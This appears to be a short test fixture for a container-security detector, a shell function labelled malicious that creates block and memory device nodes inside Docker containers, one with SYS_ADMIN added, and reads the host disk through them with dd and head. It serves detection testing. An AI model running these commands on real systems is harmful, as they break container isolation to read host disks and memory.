# block-device-node-created-in-container: containers make nodes of the host's disk and read it.
# shows: mknod with a block device from inside a container, then what opens it
# outcome: the nodes are made; the disk itself answers EPERM here
# label: malicious
# expects: [block-device-node-created-in-container]
# allows: [privileged-container, dangerous-capability-added, container-confinement-disabled, host-namespaces-shared, engine-socket-connected, command-executed-in-container, shell-opened-in-container, host-disk-read-in-container, host-disk-mounted-in-container]
act() {
    if dev; then
        docker run --rm alpine:3.19 sh -c 'mknod /tmp/hd b 254 0 && dd if=/tmp/hd of=/dev/null bs=512 count=1'
    else
        docker run -d --name blk --cap-add SYS_ADMIN busybox:1.36 sleep 20
        docker exec blk mknod -m 660 /dev/vda1 b 254 1
        docker exec blk head -c 512 /dev/vda1
        docker exec blk sh -c 'mknod /m c 1 1; head -c 16 /m'
        docker rm -f blk
    fi
    true
}
